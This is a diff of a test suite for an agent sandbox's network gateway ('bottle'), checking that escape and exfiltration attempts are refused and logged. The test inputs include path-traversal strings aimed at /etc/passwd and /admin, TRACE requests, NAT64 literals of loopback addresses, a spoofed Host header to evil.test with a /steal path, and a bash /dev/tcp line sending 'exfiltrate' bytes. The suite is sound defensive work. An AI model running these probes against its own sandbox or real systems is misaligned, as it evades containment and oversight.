+      for (const path of ['/../x', '/%2e%2e/x', '/v1/%2E%2E/%2e%2e/etc/passwd']) {
+        await gatewayAttempt(
+          'base',
+          `credential port path ${path}`,
+          `--noproxy '*' --path-as-is '${credentialPort()}${path}'`,
+          400,
+          {
+            reason: 'path_escape',
+          },
+        );
+      }
+    });
+  });
+
+  describe('issue 12', () => {
+    it('control: a clean request to the route host via the proxy port reaches it with the real secret', async () => {
+      const before = reflector.seen.length;
+      const r = await inAgent(`curl -sS --max-time 10 -x ${proxy()} -w '\\n%{http_code}' http://${ROUTE_HOST}/user`);
+      expect(r.output).toMatch(/200$/);
+      expect(reflector.seen.length).toBe(before + 1);
+      expect(reflector.seen.at(-1)).toMatchObject({ url: '/user', headers: { authorization: `Bearer ${secret}` } });
+    });
+
+    it('finding 7: plain-HTTP requests to the route host via the proxy port get the path-escape check', async () => {
+      for (const path of ['/..%2f..%2fadmin', '/v1/../admin', '/v1/%2e%2e/admin']) {
+        await gatewayAttempt(
+          '7',
+          `proxy port http://${ROUTE_HOST}${path}`,
+          `-x ${proxy()} --path-as-is 'http://${ROUTE_HOST}${path}'`,
+          400,
+          {
+            host: ROUTE_HOST,
+            reason: 'path_escape',
+          },
+        );
+      }
+    });
+
+    it('finding 8: TRACE is refused on every way to the secret; TRACK never reaches the upstream', async () => {
+      const denial = { host: ROUTE_HOST, method: 'TRACE', reason: 'method_not_allowed' };
+      await gatewayAttempt(
+        '8',
+        'TRACE, credential port',
+        `--noproxy '*' -X TRACE '${credentialPort()}/_host/${ROUTE_HOST}/user'`,
+        405,
+        denial,
+      );
+      await gatewayAttempt(
+        '8',
+        'TRACE, proxy port absolute-form',
+        `-x ${proxy()} -X TRACE 'http://${ROUTE_HOST}/user'`,
+        405,
+        denial,
+      );
+      await gatewayAttempt(
+        '8',
+        'TRACE, intercepted HTTPS',
+        `-x ${proxy()} -X TRACE 'https://${ROUTE_HOST}/user'`,
+        405,
+        denial,
+      );
+      // Node's parser does not know TRACK: refused as a malformed request before any handler runs.
+      await gatewayAttempt(
+        '8',
+        'TRACK, credential port',
+        `--noproxy '*' -X TRACK '${credentialPort()}/_host/${ROUTE_HOST}/user'`,
+        400,
+        {
+          reason: 'bad_request',
+        },
+      );
+    });
+
+    it('finding 9: "..;" and ".;" segments are refused on every way to the secret', async () => {
+      const denial = { host: ROUTE_HOST, reason: 'path_escape' };
+      await gatewayAttempt(
+        '9',
+        '/..;/admin, credential port',
+        `--noproxy '*' --path-as-is '${credentialPort()}/_host/${ROUTE_HOST}/..;/admin'`,
+        400,
+        denial,
+      );
+      await gatewayAttempt(
+        '9',
+        '/v1/.;/admin, proxy port',
+        `-x ${proxy()} --path-as-is 'http://${ROUTE_HOST}/v1/.;/admin'`,
+        400,
+        denial,
+      );
+      await gatewayAttempt(
+        '9',
+        '/..;x=1/admin, intercepted HTTPS',
+        `-x ${proxy()} --path-as-is 'https://${ROUTE_HOST}/..;x=1/admin'`,
+        400,
+        denial,
+      );
+    });
+
+    it('finding 10: the CA the agent trusts excludes every IPv4 and IPv6 address', async () => {
+      // The CA key never leaves the gateway, so no leaf can be forged here; the unit test
+      // (gateway-interception-ca) proves openssl refuses an IP-SAN leaf under these constraints.
+      const r = await inAgent(`openssl x509 -in ${AGENT_CA} -noout -text`);
+      const constrained = /Excluded:\s+IP:0\.0\.0\.0\/0\.0\.0\.0\s+IP:0:0:0:0:0:0:0:0\/0:0:0:0:0:0:0:0/.test(r.output);
+      row('10', 'IP-address certificates under the bottle CA', { refused: constrained, recorded: null, leaked: false });
+      expect(r.output).toMatch(/X509v3 Name Constraints: critical/);
+      expect(r.output).toContain(`DNS:${ROUTE_HOST}`);
+      expect(constrained, r.output).toBe(true);
+    });
+
+    it('finding 11: allowlisted NAT64, 6to4 and site-local literals of internal addresses are refused', async () => {
+      for (const literal of ['64:ff9b::7f00:1', '2002:7f00:1::1', 'fec0::1']) {
+        await gatewayAttempt(
+          '11',
+          `http://[${literal}]/ via the proxy`,
+          `-x ${proxy()} -g 'http://[${literal}]/'`,
+          403,
+          {
+            host: literal,
+            port: 80,
+            reason: 'private_address',
+          },
+        );
+      }
+    });
+
+    it('finding 14: plain HTTP in a tunnel whose Host names another host is refused', async () => {
+      await gatewayAttempt(
+        '14',
+        'plain HTTP in a tunnel, Host: evil.test',
+        `-p -x ${proxy()} -H 'Host: evil.test' 'http://allowed.test:${reflector.port}/steal'`,
+        403,
+        { host: 'allowed.test', port: reflector.port, reason: 'tunnel_host_mismatch' },
+      );
+      // Control: the same tunnel naming its own host is served.
+      const before = reflector.seen.length;
+      const ok = await inAgent(
+        `curl -sS --max-time 10 -p -x ${proxy()} -w '\\n%{http_code}' 'http://allowed.test:${reflector.port}/fine'`,
+      );
+      expect(ok.output).toMatch(/200$/);
+      expect(reflector.seen.slice(before).map((s) => s.url)).toEqual(['/fine']);
+    });
+
+    it('finding 14: a TLS ClientHello without a server name is refused before any byte is forwarded', async () => {
+      const bytesBefore = listener.bytes;
+      const at = await mark();
+      const r = await inAgent(
+        `timeout 15 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} -noservername </dev/null`,
+      );
+      const recorded = await recordedAs(at, {
+        host: 'allowed.test',
+        port: listener.port,
+        method: 'CONNECT',
+        reason: 'tls_no_sni',
+      });
+      row('14', 'TLS without a server name in a tunnel', {
+        refused: r.code !== 0,
+        recorded,
+        leaked: listener.bytes !== bytesBefore,
+      });
+      expect(r.code).not.toBe(0);
+      expect(recorded).toBe(true);
+      expect(listener.bytes).toBe(bytesBefore);
+    });
+
+    it('finding 14: bytes that are neither TLS, HTTP nor SSH are refused (tunnel_unrecognized)', async () => {
+      const bytesBefore = listener.bytes;
+      const at = await mark();
+      const connect = `CONNECT allowed.test:${listener.port} HTTP/1.1\\r\\nHost: allowed.test:${listener.port}\\r\\n\\r\\n`;
+      const r = await inAgent(
+        `timeout 10 bash -c 'exec 3<>/dev/tcp/${gatewayIp}/3128; printf "${connect}" >&3; head -c 39 <&3; ` +
+          `printf "\\001\\002exfiltrate\\n" >&3; cat <&3; echo "closed"'`,
+      );
+      const recorded = await recordedAs(at, {
+        host: 'allowed.test',
+        port: listener.port,
+        method: 'CONNECT',
+        reason: 'tunnel_unrecognized',
+      });
+      const closed = r.output.includes('closed');
+      row('14', 'unrecognised bytes in a tunnel', {
+        refused: closed,
+        recorded,
+        leaked: listener.bytes !== bytesBefore,
+      });
+      expect(r.output).toContain('200 Connection Established');
+      expect(closed, r.output).toBe(true);
+      expect(recorded).toBe(true);
+      expect(listener.bytes).toBe(bytesBefore);
+    });
   });
 
   // Last: the limiter is gateway-wide, so a drained bucket would refuse the attempts above too.
-  it('gateway: a request flood beyond requests_per_minute (600) is cut off with 429 rate_limited', async () => {
+  it('a request flood beyond requests_per_minute (600) is cut off with 429 rate_limited', async () => {
     const at = await mark();
     const r = await inAgent(
       `curl -s --no-progress-meter -Z --parallel-max 16 -o /dev/null -w '%{http_code}\\n' -x ${proxy()} 'http://unlisted.test/flood/[1-900]' 2>/dev/null`,
     );
     const codes = r.output.trim().split('\n');
-    expect(codes).toHaveLength(900);
     const limited = codes.filter((c) => c === '429').length;
+    const recorded = await recordedAs(at, { host: 'unlisted.test', port: 80, reason: 'rate_limited' }, 60_000);
+    row('base', 'request flood (900 requests)', {
+      refused: limited > 0 && codes.every((c) => c === '429' || c === '403'),
+      recorded,
+      leaked: false,
+    });
+    expect(codes).toHaveLength(900);
     expect(limited).toBeGreaterThan(0);
     // Everything not rate-limited was still refused by the allowlist.
     expect(codes.filter((c) => c !== '429' && c !== '403')).toEqual([]);
-    await deniedEvent(at, { host: 'unlisted.test', port: 80, reason: 'rate_limited' }, 60_000);
+    expect(recorded).toBe(true);
   }, 120_000);
 
   it('every gateway refusal above is in `bottle events --format json`', async () => {
     // The worker records decisions as the gateway prints them; after a 900-request flood
     // the last ones may still be on their way into the log, so wait for them (bounded).
-    const wanted = ['private_address', 'not_in_allowlist', 'port_not_allowed', 'tls_sni_mismatch', 'header_too_large', 'path_escape', 'rate_limited'];
+    const wanted = [
+      'private_address',
+      'not_in_allowlist',
+      'port_not_allowed',
+      'tls_sni_mismatch',
+      'header_too_large',
+      'path_escape',
+      'rate_limited',
+      'method_not_allowed',
+      'tunnel_host_mismatch',
+      'tls_no_sni',
+      'tunnel_unrecognized',
+    ];
     const deadline = Date.now() + 60_000;
     let reasons = new Set<string>();
     for (;;) {
@@ -315,5 +728,8 @@ describe('escape attempts from inside a real bottle are refused', () => {
       await new Promise((r) => setTimeout(r, 1000));
     }
     for (const reason of wanted) expect(reasons, reason).toContain(reason);
+    // And the route secret is in none of them.
+    const all = await h.cli(['events', identity, '--format', 'json']);
+    expect(all.stdout).not.toContain(secret);
   });
 });
